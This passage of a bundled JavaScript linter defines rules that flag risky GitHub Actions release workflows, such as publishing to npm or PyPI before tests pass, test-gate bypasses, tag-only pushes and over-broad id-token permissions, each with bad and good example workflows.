    permissions: { contents: read }
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
      - run: npm ci && npm test
  tag:
    needs: test
    runs-on: ubuntu-latest
    permissions: { contents: write }
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
      - run: gh release create "v$(date +%Y.%-m.%-d)" --generate-notes
        env:
          GH_TOKEN: \${{ github.token }}
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            for (const [job, creation] of untestedTags(workflow, facts)) {
                const what = creation.kind === 'tag' ? 'a tag' : 'a GitHub Release (and its tag)';
                reportUntested(report, job, facts, creation, {
                    does: `creates ${what} with ${creation.tool}`,
                    beforeAny: 'so when they fail the version is already tagged and stranded.',
                    parallel: 'when they fail, the tag is already out and the version is stranded.',
                    none: 'when the tests (wherever they run) fail afterwards, the version is already tagged and stranded.',
                    afterFix: 'tag only after them',
                });
            }
        }
    },
};
const publishBeforeTest = {
    id: 'publish-before-test',
    severity: 'error',
    title: 'A job publishes to npm or PyPI without waiting for the tests.',
    why: 'A version on npm or PyPI cannot be replaced: publishing before the tests pass (or while they still run) ships whatever the commit holds, and the only way back is a yank and a new version. Reported as a warning when nothing in the workflow tests the commit first (no tests at all, or only in jobs that run after the publish). An upload to TestPyPI from a workflow (or a job) no release starts, or of a package the job makes (`uv init`), is itself a test and is not reported.',
    fix: 'Make the publishing job `needs:` the test job, or run the tests in a job it needs.',
    bad: `on: { release: { types: [published] } }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  test:
    runs-on: ubuntu-latest
    permissions: { contents: read }
    steps:
      - run: pip install -e . && pytest
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    good: `on: { release: { types: [published] } }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  test:
    runs-on: ubuntu-latest
    permissions: { contents: read }
    steps:
      - run: pip install -e . && pytest
  publish:
    needs: test
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            if (gatedByAnotherWorkflow(workflow))
                continue;
            const tagged = untestedTags(workflow, facts);
            const untested = (job) => facts
                .jobPublishes(job)
                .filter((each) => !facts.testedBefore(job, each.step) && !testPypiFixture(job, each, facts));
            // The real PyPI upload is reported already: its TestPyPI rehearsal says nothing more.
            const pypiReported = workflow.jobs.some((job) => !jobGatedByAnotherWorkflow(job) && untested(job).some((each) => each.registry === 'pypi'));
            for (const job of workflow.jobs) {
                if (jobGatedByAnotherWorkflow(job))
                    continue;
                const publish = untested(job).find((each) => !(pypiReported && each.registry === 'testpypi'));
                if (!publish || tagged.get(job)?.step === publish.step)
                    continue;
                // `npm stage publish`: the version waits on npm until a person approves it.
                const staged = /\bstage publish\b/.test(publish.tool);
                const approval = 'the staged version goes public as soon as someone approves it on npm, with no test result to go by.';
                reportUntested(report, job, facts, publish, staged
                    ? {
                        does: `stages a version on npm with ${publish.tool}`,
                        beforeAny: `so a failing test cannot stop this upload: ${approval}`,
                        parallel: `a failing test cannot stop this upload: ${approval}`,
                        none: `the upload cannot be stopped by a failing test: ${approval}`,
                        afterFix: 'stage only after them',
                    }
                    : {
                        does: `publishes with ${publish.tool}`,
                        beforeAny: 'so a failing test cannot stop this upload, and a published version cannot be replaced.',
                        parallel: 'a failing test cannot stop this upload, and a published version cannot be replaced.',
                        none: 'the upload cannot be stopped by a failing test, and a published version cannot be replaced.',
                        afterFix: 'publish only after them',
                    });
            }
        }
    },
};
const versionComputedTwice = {
    id: 'version-computed-twice',
    severity: 'error',
    title: 'A version or date is computed in more than one job (or in each leg of a matrix).',
    why: 'Each job computes it at its own time: an environment approval or a queue between two jobs can cross midnight UTC or see a new tag, and the tag says 2026.6.3 while the packages say 2026.6.4.',
    fix: 'Compute the version once, in the first job; expose it as a job output and read `needs.<job>.outputs.version` everywhere else.',
    bad: `on: { workflow_dispatch: {} }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  tag:
    runs-on: ubuntu-latest
    permissions: { contents: write }
    steps:
      - run: echo "version=$(date -u +%Y.%-m.%-d)" >> "$GITHUB_OUTPUT"
  publish:
    needs: tag
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - run: npm version "$(date -u +%Y.%-m.%-d)" --no-git-tag-version
`,
    good: `on: { workflow_dispatch: {} }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  tag:
    runs-on: ubuntu-latest
    permissions: { contents: write }
    outputs:
      version: \${{ steps.version.outputs.version }}
    steps:
      - id: version
        run: echo "version=$(date -u +%Y.%-m.%-d)" >> "$GITHUB_OUTPUT"
  publish:
    needs: tag
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - run: npm version "$VERSION" --no-git-tag-version
        env:
          VERSION: \${{ needs.tag.outputs.version }}
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            const computed = [];
            for (const job of workflow.jobs) {
                const step = job.steps.find((each) => facts.version(each) !== undefined && !onlyCacheKey(each));
                if (!step)
                    continue;
                const { needle, what, origin } = facts.version(step);
                computed.push({ job, step, needle, what, where: origin ? ` (in ${origin})` : '' });
                if (what === 'date' && job.strategy?.get('matrix')) {
                    report((0,rule/* stepAnchor */.AK)(step), `Job "${job.id}" computes the date${computed[computed.length - 1].where} in each leg of its matrix: the legs start at different times (a queue, a retry), and one can land on the next day UTC with another version.`, {
                        ...needleOf(step, needle),
                        fix: 'Compute the date once, in a job before the matrix, and pass it in with `needs.<job>.outputs`.',
                    });
                }
            }
            const first = computed[0];
            for (const later of computed.slice(1)) {
                const environment = (0,source_model/* environmentName */.VE)(later.job);
                const gap = environment
                    ? `the approval wait of environment "${environment}" before this job`
                    : 'the time between the jobs (a queue, an approval, a rerun days later)';
                report((0,rule/* stepAnchor */.AK)(later.step), `Job "${later.job.id}" computes the ${later.what}${later.where} again, after job "${first.job.id}" computed it (line ${(0,rule/* stepAnchor */.AK)(first.step).pos().line}${first.where}): ${gap} can cross midnight UTC or see a new tag, and the tag and the packages then carry different versions.`, {
                    ...needleOf(later.step, later.needle),
                    fix: `Compute the version once in job "${first.job.id}", expose it as a job output, and read \`needs.${first.job.id}.outputs.version\` in job "${later.job.id}".`,
                });
            }
        }
    },
};
/** `skip_tests`, `no-ci`, `force_release` (but not `force_release_without_changes`: that forces something else). */
const BYPASS_INPUT = /(skip|no|bypass|disable|without|ignore)[-_ ]?(the[-_ ])?(tests?|checks?|ci|gate|verif\w*|validat\w*)|force[-_ ]?(publish|release|push)$/i;
const RELEASE_IF = /\b(always|cancelled|failure)\s*\(\s*\)/;
const testGateBypass = {
    id: 'test-gate-bypass',
    severity: 'error',
    title: 'An input, condition or setting lets a release go out past failed or skipped tests.',
    why: 'A `skip_tests` input, `continue-on-error: true` on the tests, `npm test || true`, or an `if: always()` on the release job turns the test gate into a suggestion: on a bad day the one run that matters is the one that skips it.',
    fix: "Remove the bypass. A release job that must run after skipped jobs checks the results: `if: ${{ !cancelled() && !contains(needs.*.result, 'failure') }}`.",
    bad: `on:
  workflow_dispatch:
    inputs:
      skip_tests:
        type: boolean
        default: false
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  test:
    if: \${{ !inputs.skip_tests }}
    runs-on: ubuntu-latest
    steps:
      - run: npm test
  publish:
    needs: test
    if: always()
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - run: npm publish
`,
    good: `on: { workflow_dispatch: {} }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: npm test
  publish:
    needs: test
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - run: npm publish
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            if (!facts.isReleaseWorkflow(workflow))
                continue;
            const text = workflow.file.text;
            for (const input of workflow.inputs) {
                if (!BYPASS_INPUT.test(input.name))
                    continue;
                const escaped = input.name.replace(/[-/\\^$*+?.()|[\]{}]/g, '\\$&');
                const uses = new RegExp(`inputs\\s*(\\.\\s*${escaped}\\b|\\[\\s*'${escaped}'\\s*\\])`).test(text);
                if (!uses)
                    continue;
                report(input.node, `Input "${input.name}" lets whoever starts this release skip the tests: the one run that skips them is the one that ships the broken version.`, { key: true });
            }
            for (const job of workflow.jobs) {
                const isTest = facts.isTestJob(job);
                if (isTest && job.continueOnError?.str() === 'true')
                    report(job.continueOnError, `Job "${job.id}" runs the tests with \`continue-on-error: true\`: a failing test no longer fails the job, and the release goes ahead.`, { key: true });
                for (const step of job.steps) {
                    if (step.via)
                        continue;
                    const test = facts.tests(step);
                    if (!test)
                        continue;
                    if (step.continueOnError?.str() === 'true')
                        report(step.continueOnError, `The test step \`${test.split('\n')[0]}\` has \`continue-on-error: true\`: a failing test no longer fails job "${job.id}", and the release goes ahead.`, { key: true });
                    for (const command of (0,step_kinds/* stepCommands */.Bs)(step, facts.scripts)) {
                        const line = step.run?.split('\n').find((each) => each.includes(command.text.split('\n')[0])) ??
                            '';
                        if (/\|\|\s*(true|:|exit 0|echo\b)/.test(line) &&
                            facts.tests({ ...step, run: command.text }) !== undefined) {
                            report(step.runNode, `\`${line.trim()}\` turns a failing test into success: job "${job.id}" passes and the release goes ahead.`, { needle: line.trim() });
                            break;
                        }
                    }
                }
                const condition = job.if?.str();
                const releases = facts.publishesAnywhere(job) || facts.jobTags(job).length > 0;
                if (!releases || condition === undefined || !RELEASE_IF.test(condition))
                    continue;
                if (/\.result\b|success\s*\(\s*\)/.test(condition))
                    continue;
                const tests = (0,source_model/* upstreamJobs */.oZ)(job).filter((upstream) => facts.isTestJob(upstream));
                if (tests.length === 0)
                    continue;
                report(job.if, `Job "${job.id}" releases with \`if: ${condition.trim()}\`, which runs it even when the tests in ${jobsNamed(tests)} failed or were skipped.`, {
                    fix: `Check the results: \`if: \${{ !cancelled() && !contains(needs.*.result, 'failure') }}\`, or drop the status function so that job "${job.id}" runs only when its needs succeeded.`,
                });
            }
        }
    },
};
const phantomVersion = {
    id: 'phantom-version',
    severity: 'error',
    title: 'A version bump is committed and tagged, but only the tag is pushed (no branch holds the commit).',
    why: 'The tag points at a commit that no branch contains: the default branch never gets the new version in its manifests (a phantom version), the next release computes the same version again, and the tagged commit disappears from history views.',
    fix: 'Push the branch with the tag (`git push --follow-tags origin HEAD:main`), or better, bump the version in a pull request and tag the merged commit.',
    bad: `on: { workflow_dispatch: {} }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  bump:
    runs-on: ubuntu-latest
    permissions: { contents: write }
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
      - run: npm ci && npm test
      - run: |
          npm version patch -m "release %s"
          git push origin "v$(node -p "require('./package.json').version")"
`,
    good: `on: { workflow_dispatch: {} }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  bump:
    runs-on: ubuntu-latest
    permissions: { contents: write }
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
      - run: npm ci && npm test
      - run: |
          npm version patch -m "release %s"
          git push --follow-tags origin HEAD:main
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            for (const job of workflow.jobs) {
                if (!job.steps.some((step) => (0,step_kinds/* commits */.XP)(step, facts.scripts)))
                    continue;
                if (job.steps.some((step) => (0,step_kinds/* pushesBranch */.$j)(step, facts.scripts)))
                    continue;
                const gitTags = facts
                    .jobTags(job)
                    .filter((c) => c.kind === 'tag' && /^(git|npm version)/.test(c.tool));
                const pushTag = job.steps
                    .flatMap((step) => (0,step_kinds/* stepCommands */.Bs)(step, facts.scripts).map((command) => ({ step, command })))
                    .find(({ command }) => command.words[0] === 'git' && command.words[1] === 'push');
                if (gitTags.length === 0 || !pushTag)
                    continue;
                report((0,rule/* stepAnchor */.AK)(pushTag.step), `Job "${job.id}" commits a version bump and pushes only the tag (\`${pushTag.command.text}\`): the tag points at a commit no branch holds, so the default branch never gets the new version (a phantom version) and the next release computes the same one again.`, needleOf(pushTag.step, pushTag.command.text));
            }
        }
    },
};
/** A step's `if:` without `${{ }}` and outer spaces ('' when it has none). */
function plainCondition(step) {
    return (step.if?.str() ?? '').replace(/^\s*\$\{\{([\s\S]*)\}\}\s*$/, '$1').trim();
}
/**
 * Two `if:`s of which exactly one holds: `x == 'a'` and `x != 'a'`, `x` and `!x`. Anything
 * with `&&` or `||` is not judged.
 */
function excludeEachOther(one, other) {
    if (one === '' || other === '' || /&&|\|\|/.test(one + other))
        return false;
    const negations = (text) => [`!${text}`, `!(${text})`];
    if (negations(one).includes(other.replace(/^!\s*/, '!')))
        return true;
    if (negations(other).includes(one.replace(/^!\s*/, '!')))
        return true;
    const comparison = /^(.+?)\s*(==|!=)\s*(.+)$/;
    const [, leftA, opA, rightA] = comparison.exec(one) ?? [];
    const [, leftB, opB, rightB] = comparison.exec(other) ?? [];
    return leftA !== undefined && leftA === leftB && rightA === rightB && opA !== opB;
}
/**
 * Two `npm publish` steps of one job that publish the same folder's package, under `if:`s of
 * which exactly one holds (one for a prerelease dist-tag, one for latest): one package.
 */
function oneOrTheOther(one, other) {
    const folder = (step) => (step.node.get('working-directory')?.str() ?? '')
        .replace(/^(\.\/)+|\/+$/g, '')
        .replace(/^\.$/, '');
    return (one.tool === other.tool &&
        folder(one.step) === folder(other.step) &&
        excludeEachOther(plainCondition(one.step), plainCondition(other.step)));
}
const publishNotRerunnable = {
    id: 'publish-not-rerunnable',
    severity: 'warning',
    title: 'Several npm packages published one by one, which a rerun cannot finish.',
    why: 'The recovery for a release that failed halfway is to rerun the failed jobs (`gh run rerun <id> --failed`). `npm publish` of a version that is already out fails ("You cannot publish over the previously published versions"), so a loop or a list of `npm publish` that stopped halfway stops at the first package the first attempt published, and the rest never goes out. (PyPI is not affected: it accepts a byte-identical re-upload of the same file, and pnpm, changesets and lerna from-package skip what is already published.)',
    fix: 'Publish with a tool that skips versions already on the registry (`pnpm -r publish`, `changeset publish`, `lerna publish from-package`), or check each package first (`npm view "$name@$version" version || npm publish`).',
    bad: `on: { workflow_dispatch: {} }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/setup-node@a0853c24544627f65ddf259abe73b1d18a591444 # v5.0.0
        with: { node-version: 24 }
      - run: for dir in packages/*; do (cd "$dir" && npm publish); done
`,
    good: `on: { workflow_dispatch: {} }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/setup-node@a0853c24544627f65ddf259abe73b1d18a591444 # v5.0.0
        with: { node-version: 24 }
      - run: pnpm -r publish --no-git-checks
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            for (const job of workflow.jobs) {
                const npm = facts
                    .jobPublishes(job)
                    .filter((publish) => publish.registry === 'npm' && /^npm publish( in |$)/.test(publish.tool));
                const first = npm[0];
                if (!first)
                    continue;
                const packages = npm.filter((publish, at) => !npm.slice(0, at).some((earlier) => oneOrTheOther(earlier, publish)));
                const several = packages.length > 1 || npm.some((publish) => publishesMany(publish.step, facts));
                if (!several || npm.some((publish) => skipsPublished(publish.step)))
                    continue;
                report((0,rule/* stepAnchor */.AK)(first.step), `npm publish in job "${job.id}" publishes several packages one by one: when one fails, a rerun (\`gh run rerun <id> --failed\`) stops at the first package the first attempt already published ("You cannot publish over the previously published versions"), and the rest never goes out.`, needleOf(first.step, first.needle));
            }
        }
    },
};
/** A date read only by cache keys (`key: deps-${{ steps.date.outputs.date }}`): not a version. */
function onlyCacheKey(step) {
    if (step.id === undefined || !step.job)
        return /cache/i.test(step.name ?? '');
    const reference = new RegExp(`steps\\.${step.id.replace(/[^\w-]/g, '')}\\.outputs`);
    const readers = step.job.steps.filter((each) => each !== step &&
        [each.run, each.if?.str(), ...[...(each.with?.entries() ?? [])].map(([, v]) => v.str())]
            .concat([...(each.env?.entries() ?? [])].map(([, v]) => v.str()))
            .some((text) => text !== undefined && reference.test(text)));
    const outputs = step.job.node.get('outputs');
    const exported = [...(outputs?.entries() ?? [])].some(([, v]) => reference.test(v.str() ?? ''));
    return !exported && readers.length > 0 && readers.every((each) => (0,step_kinds/* cacheOf */.w7)(each) !== undefined);
}
/** A loop, `xargs`, `find -exec` or `--workspaces` around the step's `npm publish`. */
function publishesMany(step, facts) {
    const text = step.run ?? '';
    if (/\bxargs\b|-exec\b|\bforeach\b/.test(text))
        return true;
    const commands = (0,step_kinds/* stepCommands */.Bs)(step, facts.scripts);
    // A loop publishes several packages when it moves from folder to folder or names one each
    // time; `npm publish --tag "$tag"` in a loop publishes the folder it stands in, again.
    if (/\b(for|while|until)\b[\s\S]*?\bdo\b/.test(text) &&
        (/\b(cd|pushd)\s/.test(text) || commands.some(namesPackage)))
        return true;
    return commands.some((command) => command.words[0] === 'npm' &&
        command.words.some((word) => /^(--workspaces|-ws|--workspaces=true)$/.test(word)));
}
/** `npm publish <folder or tarball>`, `npm publish -w <name>`, `--prefix <dir>`: which package. */
function namesPackage(command) {
    const { words } = command;
    if (words[0] !== 'npm' || (0,src_commands/* pmSubcommand */.Lt)(words) !== 'publish')
        return false;
    if (words.some((word) => /^(-w|--workspace|--prefix|-C)(=|$)/.test(word)))
        return true;
    return (0,src_commands/* operands */.bw)(words.slice(1)).length > 1;
}
/** A script that asks the registry first (`npm view`) before publishing. */
function skipsPublished(step) {
    return /\bnpm (view|info|show)\b|--tolerate-republish/.test(step.run ?? '');
}

// EXTERNAL MODULE: ./packages/release-tools/src/registries.ts
var src_registries = __webpack_require__(30444);
;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/publish-job.ts
// The job that publishes: its environment, its id-token permission, and what else runs in it.




function publishedBy(publishes) {
    const first = publishes[0];
    return `${first.tool} ${(0,rule/* describeStep */.Ey)(first.step).replace(/^`[^`]*` /, '')}`;
}
const publishWithoutEnvironment = {
    id: 'publish-without-environment',
    severity: 'error',
    title: 'A job publishes to npm or PyPI without `environment:`.',
    why: 'Without an environment nobody approves the release and no branch rule applies: anyone who can push a branch that runs the workflow can publish. A trusted publisher registered with an environment also rejects the token of a job that has none.',
    fix: 'Add `environment: release` to the job, protect the environment with required reviewers and a deployment branch rule (Settings → Environments), and name the same environment in the trusted publisher on npm and PyPI.',
    bad: `on: { workflow_dispatch: {} }
permissions: {}
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    good: `on: { workflow_dispatch: {} }
permissions: {}
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            for (const job of workflow.jobs) {
                const publishes = facts.jobPublishes(job);
                if (publishes.length === 0 || (0,source_model/* environmentName */.VE)(job) !== '')
                    continue;
                const registries = [...new Set(publishes.map((p) => (0,src_registries/* registryTitle */.m6)(p.registry)))].join(' and ');
                report(job.node, `Job "${job.id}" publishes to ${registries} with ${publishedBy(publishes)} but has no \`environment:\`. Nobody approves this release and no branch rule limits it: anyone who can push a branch that runs this workflow can publish, and a trusted publisher that names an environment rejects this job's token (npm answers E404 on the upload, PyPI "invalid-publisher").`, {
                    key: true,
                    fix: `Add \`environment: release\` to job "${job.id}", protect it with required reviewers and a deployment branch rule (Settings → Environments), and name the same environment in the trusted publisher on ${registries}.`,
                });
            }
        }
    },
};
const idTokenAtWorkflowLevel = {
    id: 'id-token-at-workflow-level',
    severity: 'error',
    title: 'A release workflow grants `id-token: write` (or `write-all`) at the top, to every job.',
    why: 'Every job without its own `permissions:` inherits it: the tests, the build, and every action and dependency they run can mint an OIDC token and publish as this repository. A job that publishes needs the token anyway: where only publishing jobs inherit `id-token: write`, it is a note (a job added later inherits it too).',
    fix: 'Set `permissions: {}` at the top and grant `id-token: write` only in the job that publishes, next to its `environment:`.',
    bad: `on: { release: { types: [published] } }
permissions:
  id-token: write
  contents: read
concurrency: { group: release, cancel-in-progress: false }
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: npm ci && npm test
  publish:
    needs: test
    runs-on: ubuntu-latest
    environment: release
    steps:
      - run: npm publish
`,
    good: `on: { release: { types: [published] } }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  test:
    runs-on: ubuntu-latest
    permissions: { contents: read }
    steps:
      - run: npm ci && npm test
  publish:
    needs: test
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - run: npm publish
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            const permissions = workflow.permissions;
            if (!permissions?.idToken || !facts.publishesInWorkflow(workflow))
                continue;
            const all = workflow.jobs.filter((job) => !job.permissions && !job.uses);
            if (all.length === 0)
                continue;
            // A publishing job needs the token anyway: only the others gain what they should not have
            // (write-all gives every job, the publishing one too, far more than the token).
            const inheriting = all.filter((job) => permissions.writeAll || facts.jobPublishes(job).length === 0);
            const grant = permissions.writeAll
                ? '`permissions: write-all` (which includes `id-token: write`)'
                : '`id-token: write`';
            if (inheriting.length === 0) {
                report(permissions.node, `${grant} is granted to the whole workflow. Today only jobs that publish inherit it (${all.map((job) => `"${job.id}"`).join(', ')}), and they need it; a job added later (tests, a build) inherits it too.`, { key: true, severity: 'note' });
                continue;
            }
            report(permissions.node, `${grant} is granted to the whole workflow, so every job without \`permissions:\` of its own can mint an OIDC token and publish as this repository: ${inheriting.map((job) => `"${job.id}"`).join(', ')}. A compromised test dependency or action in any of them can publish a release.`, { key: true });
        }
    },
};
/**
 * A job whose OIDC token a trusted publisher accepts: it publishes to npm or PyPI, or its
 * workflow (the file the trusted publisher names) does from a job without `environment:`, so the
 * publisher cannot name one and any job of the file will do. Docs, previews and attestation jobs
 * of other workflows hold `id-token` for other audiences.
 */
function canMintAcceptedToken(job, facts) {
    if (facts.jobPublishes(job).length > 0)
        return true;
    if (!job.permissions?.idToken)
        return false;
    const publishing = job.workflow.jobs.filter((each) => facts.jobPublishes(each).length > 0);
    return publishing.length > 0 && publishing.some((each) => each.environment === undefined);
}
/** Whether a job calling a reusable workflow lets it mint OIDC tokens. */
function callerGrantsIdToken(job) {
    return (0,source_model/* jobGrantsIdToken */.Bb)(job);
}
const publishWithoutIdToken = {
    id: 'publish-without-id-token',
    severity: 'error',
    title: 'A job publishes through trusted publishing (or with provenance) but cannot mint an OIDC token.',
    why: "Trusted publishing exchanges the job's OIDC token for a short-lived registry token. Without `id-token: write` there is no OIDC token: npm skips the exchange silently and the upload fails with ENEEDAUTH or E404, PyPI's upload has no credentials. A reusable workflow cannot get more than its caller grants.",
    fix: 'Add `permissions: { id-token: write, contents: read }` to the publishing job (and to the job that calls a reusable publishing workflow).',
    bad: `on: { workflow_dispatch: {} }
permissions: { contents: read }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    steps:
      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0
        with: { node-version: 24 }
      - run: npm publish
`,
    good: `on: { workflow_dispatch: {} }
permissions: { contents: read }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/setup-node@2028fbc5c25fe9cf00d9f06a71cc4710d4507903 # v6.0.0
        with: { node-version: 24 }
      - run: npm publish
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            for (const job of workflow.jobs) {
                const needing = facts.jobPublishes(job).filter((p) => !p.usesToken || p.provenance);
                if (needing.length > 0 && (0,source_model/* jobGrantsIdToken */.Bb)(job) === false) {
                    const first = needing[0];
                    const how = first.usesToken
                        ? 'asks for provenance, which needs an OIDC token'
                        : 'publishes through trusted publishing';
                    const where = job.permissions
                        ? `its \`permissions:\` (line ${job.permissions.node.keyPos().line}) do not include \`id-token: write\``
                        : workflow.permissions
                            ? `it has no \`permissions:\` and the workflow's (line ${workflow.permissions.node.keyPos().line}) do not include \`id-token: write\``
                            : "neither the job nor the workflow sets `permissions:`, and GitHub's default token has no `id-token: write`";
                    const effect = first.registry === 'npm'
                        ? 'npm skips the OIDC exchange without a word and the upload fails with ENEEDAUTH or E404'
                        : 'the upload to PyPI has no credentials and fails';
                    report(job.permissions?.node ?? job.node, `Job "${job.id}" ${how} (${first.tool}, line ${(0,rule/* stepAnchor */.AK)(first.step).pos().line}) but ${where}: ${effect}.`, {
                        key: true,
                        fix: `Add \`id-token: write\` (with \`contents: read\`) to the \`permissions:\` of job "${job.id}", and nowhere else.`,
                    });
                }
                // A job that calls a reusable workflow of this repository.
                const called = job.called;
                if (!called || !job.uses)
                    continue;
                const granted = callerGrantsIdToken(job);
                if (granted !== false)
                    continue;
                for (const inner of called.jobs) {
                    const innerNeeds = facts.jobPublishes(inner).some((p) => !p.usesToken || p.provenance);
                    if (!innerNeeds)
                        continue;
                    const asks = inner.permissions?.idToken || (!inner.permissions && called.permissions?.idToken);
                    const message = asks
                        ? `Job "${job.id}" calls ${job.uses.str() ?? ''}, whose job "${inner.id}" asks for \`id-token: write\`, but a called workflow gets at most what its caller grants and this job does not grant it: GitHub refuses to start the run ("is requesting 'id-token: write', but is only allowed 'id-token: none'").`
                        : `Job "${job.id}" calls ${job.uses.str() ?? ''}, whose job "${inner.id}" publishes through trusted publishing with the caller's permissions, and this job does not grant \`id-token: write\`: the publish has no OIDC token and fails.`;
                    report(job.uses, message, {
                        fix: `Add \`permissions: { id-token: write, contents: read }\` to job "${job.id}" (a called workflow never gets more than its caller grants).`,
                    });
                    break;
                }
            }
        }
    },
};
const buildInPublishJob = {
    id: 'build-in-publish-job',
    severity: 'warning',
    title: 'Dependencies are installed, or the project built or tested, in the job that can mint a publish token.',
    why: "`npm ci`, `pip install .`, a build or the tests run code from every dependency (install scripts, plugins, test fixtures). In a job with `id-token: write` that code can mint an OIDC token and publish whatever it wants under this project's name, with valid provenance.",
    fix: 'Build and test in jobs without `id-token: write`, upload the packages with actions/upload-artifact, and let the publish job only download them and publish.',
    bad: `on: { workflow_dispatch: {} }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
      - run: python -m pip install build && python -m build
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    good: `on: { workflow_dispatch: {} }
permissions: {}
concurrency: { group: release, cancel-in-progress: false }
jobs:
  build:
    runs-on: ubuntu-latest
    permissions: { contents: read }
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
      - run: python -m pip install build && python -m build
      - uses: actions/upload-artifact@330a01c490aca151604b8cf639adc76d48f6c5d4 # v5.0.0
        with: { name: dist, path: dist/ }
  publish:
    needs: build
    runs-on: ubuntu-latest
    environment: release
    permissions: { id-token: write, contents: read }
    steps:
      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
        with: { name: dist, path: dist/ }
      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
`,
    check({ repository, facts, report }) {
        for (const workflow of repository.workflows) {
            for (const job of workflow.jobs) {
                if ((0,source_model/* jobGrantsIdToken */.Bb)(job) !== true)
                    continue;
                if (!canMintAcceptedToken(job, facts))
                    continue;
                const builds = job.steps.filter((step) => facts.build(step) !== undefined);
                const first = builds[0];
                if (!first)
                    continue;
                const firstLine = (0,rule/* stepAnchor */.AK)(first).pos().line;
                const others = [
                    ...new Set(builds.slice(1).map((step) => (0,rule/* stepAnchor */.AK)(step).pos().line)),
                ].filter((line) => line !== firstLine);
                const command = facts.build(first);
                report((0,rule/* stepAnchor */.AK)(first), `\`${command.split('\n')[0]}\` runs in job "${job.id}", which holds \`id-token: write\`${others.length > 0 ? ` (and so ${others.length === 1 ? 'does the step on line' : 'do the steps on lines'} ${others.join(', ')})` : ''}: every dependency's install script, build plugin and test runs with the power to mint an OIDC token and publish under this project's name.`, {
                    needle: first.via ? undefined : command.split('\n')[0],
                });
            }
        }
    },
};
const cacheInPublishJob = {
    id: 'cache-in-publish-job',
    severity: 'warning',
    title: 'The job that publishes restores a cache.',
